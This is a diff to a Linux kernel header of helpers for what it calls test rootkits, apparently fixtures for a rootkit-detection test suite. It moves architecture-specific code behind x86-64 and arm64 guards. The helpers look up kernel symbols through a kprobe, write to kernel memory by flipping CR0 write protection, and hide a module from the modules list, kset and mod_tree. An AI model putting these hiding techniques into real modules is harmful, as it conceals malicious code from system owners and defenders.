@@ -17,25 +17,18 @@
  * without it (the test guest is quiet while they run).  For testing only.
  *
  * RKIT_SYS(name): the symbol of syscall name's entry point
- * ("__x64_sys_sysinfo").  Built for arm64 (the modules of arm64/ that
- * include a module of this folder), this is arm64/rkit64.h, whose
- * functions have the same names; the x86-64 ones are under CONFIG_X86.
+ * ("__x64_sys_sysinfo").  What differs by architecture (RKIT_SYS,
+ * rkit_poke, finding the modules list's head and mod_tree) is under
+ * CONFIG_X86 here and in arm64/rkit64.h for arm64; the rest is one.
  */
 #ifndef RKIT_H
 #define RKIT_H
-
-#if defined(CONFIG_ARM64)
-#include "arm64/rkit64.h"
-#elif defined(CONFIG_X86)
-
-#define RKIT_SYS(name) "__x64_sys_" #name
 
 #include <linux/kobject.h>
 #include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/rbtree_latch.h>
 #include <linux/rculist.h>
-#include <asm/special_insns.h>
 
 static unsigned long __maybe_unused rkit_lookup(const char *name)
 {
@@ -48,6 +41,17 @@ static unsigned long __maybe_unused rkit_lookup(const char *name)
 	unregister_kprobe(&kp);
 	return kln(name);
 }
+
+static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
+static struct kset *rkit_kset;
+static bool rkit_hidden;
+
+#if defined(CONFIG_ARM64)
+#include "arm64/rkit64.h"
+#elif defined(CONFIG_X86)
+#include <asm/special_insns.h>
+
+#define RKIT_SYS(name) "__x64_sys_" #name
 
 static inline void rkit_cr0_write(unsigned long v)
 {
@@ -71,10 +75,6 @@ static void __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
 	local_irq_restore(flags);
 }
 
-static struct list_head *rkit_modules_head;	/* the kernel's `modules` */
-static struct kset *rkit_kset;
-static bool rkit_hidden;
-
 /* the one entry of the modules list that lies in the kernel image */
 static struct list_head *rkit_find_head(void)
 {
@@ -86,6 +86,16 @@ static struct list_head *rkit_find_head(void)
 			return p;
 	return NULL;
 }
+
+/* mod_tree: a kallsyms symbol on x86-64 (CONFIG_KALLSYMS_ALL) */
+static struct latch_tree_root *rkit_find_mod_tree(void)
+{
+	return (void *)rkit_lookup("mod_tree");
+}
+
+#else
+#error "rkit.h: the test rootkits are for x86-64 and arm64"
+#endif
 
 static int __maybe_unused rkit_hide(void)
 {
@@ -139,7 +149,7 @@ static const struct latch_tree_ops rkit_mtn_ops = {
 
 static int __maybe_unused rkit_tree_erase(void)
 {
-	rkit_mod_tree = (void *)rkit_lookup("mod_tree");
+	rkit_mod_tree = rkit_find_mod_tree();
 	if (!rkit_mod_tree)
 		return -ENOENT;
 	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
@@ -152,9 +162,5 @@ static void __maybe_unused rkit_tree_insert(void)
 		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
 	rkit_mod_tree = NULL;
 }
-
-#else
-#error "rkit.h: the test rootkits are for x86-64 and arm64"
-#endif
 
 #endif
